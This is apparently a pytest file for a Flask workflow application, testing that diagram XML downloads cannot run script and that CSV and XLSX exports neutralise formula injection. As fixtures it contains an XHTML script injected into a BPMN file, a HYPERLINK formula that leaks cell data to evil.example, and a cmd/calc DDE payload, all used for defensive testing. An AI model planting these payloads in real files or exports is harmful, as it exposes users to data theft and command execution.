"""No script from our responses, wherever it comes from: diagram XML is a download, pages carry a strict policy,
spreadsheet cells are never formulas. Through the Flask test client on the real database."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.conftest import QUERIER_ADD
from web.spreadsheet import neutralise
from workflows.editor.deploy import deploy_version
from workflows.editor.drafts import save_draft
from workflows.filing.applications import submit_application

BPMN_DIR = Path(__file__).resolve().parents[2] / "bpmn" / "kaohsiung"
QUERIER = (BPMN_DIR / "querier_account.bpmn").read_bytes()
# An XHTML script passes the diagram checks (it is foreign markup, not a BPMN element); rendered as XML, it would run.
XHTML_SCRIPT = QUERIER.replace(
    b"</bpmn:definitions>",
    b'<html:script xmlns:html="http://www.w3.org/1999/xhtml">window.__xss = 1</html:script></bpmn:definitions>')


def login(client, username: str):
    assert client.post("/login", data={"username": username, "password": "demo"}).status_code == 302
    return client


def assert_download(response, filename: str, body: bytes) -> None:
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == f"attachment; filename={filename}"
    assert response.mimetype == "application/octet-stream"  # no browser renders it, let alone runs it
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"]
    assert response.data == body


def test_diagram_xml_is_a_download_on_every_route(app, api, session, person):
    now = datetime.now(UTC)
    deploy_version(session, XHTML_SCRIPT, key="querier_account", actor=person("admin"), now=now, note="x",
                   jurisdiction="kaohsiung")
    draft = save_draft(session, key="querier_account", xml=XHTML_SCRIPT, base_version=1, note=None,
                       actor=person("admin"), now=now)

    viewer = login(app.test_client(), "sw_staff")
    assert_download(viewer.get("/definitions/querier_account/versions/2.bpmn"), "querier_account-v2.bpmn",
                    XHTML_SCRIPT)
    admin = login(app.test_client(), "admin")
    assert_download(admin.get(f"/editor/drafts/{draft.id}.bpmn"), f"querier_account-draft-{draft.id}.bpmn",
                    XHTML_SCRIPT)
    assert_download(api.as_("applicant").get("/api/v1/process-definitions/querier_account/versions/2/xml"),
                    "querier_account-v2.bpmn", XHTML_SCRIPT)


# --- spreadsheet exports ------------------------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"詳情")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3"


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("王美玲", "王美玲"), ("a=1", "a=1"), ("", ""), (-3, -3), (-1.5, -1.5), (0, 0), (None, None),
])
def test_only_text_that_starts_like_a_formula_is_changed(value, cell):
    assert neutralise(value) == cell


@pytest.fixture
def hostile_application(session, person) -> int:
    """An application whose applicant, current step and its holder all read like formulas."""
    deploy_version(session, QUERIER.replace('name="單位主管核准"'.encode(), f'name="{SUM}"'.encode()),
                   key="querier_account", actor=person("admin"), now=datetime.now(UTC), note="x",
                   jurisdiction="kaohsiung")
    person("sw_staff").name = HYPERLINK
    person("sw_unit_head").name = MINUS
    session.commit()
    return submit_application(session, form_key="querier_account", data=dict(QUERIER_ADD), actor=person("sw_staff"),
                              now=datetime.now(UTC)).id


def test_the_csv_export_writes_formulas_as_text(client, hostile_application):
    login(client, "sw_head")
    text = client.get("/applications/export.csv").get_data(as_text=True)
    [row] = [r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if r[0] == str(hostile_application)]
    assert (row[2], row[6], row[7]) == ("'" + HYPERLINK, "'" + SUM, "'" + MINUS)


def test_the_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, hostile_application):
    login(client, "sw_head")
    sheet = load_workbook(io.BytesIO(client.get("/applications/export.xlsx").data)).active
    [row] = [r for r in sheet.iter_rows(min_row=2) if r[0].value == hostile_application]
    assert (row[2].value, row[6].value, row[7].value) == ("'" + HYPERLINK, "'" + SUM, "'" + MINUS)
    assert all(c.data_type == "s" for c in (row[2], row[6], row[7]))  # text, never a formula ("f")
    assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    assert (row[0].data_type, row[8].data_type) == ("n", "n")  # the id and the days waited stay numbers
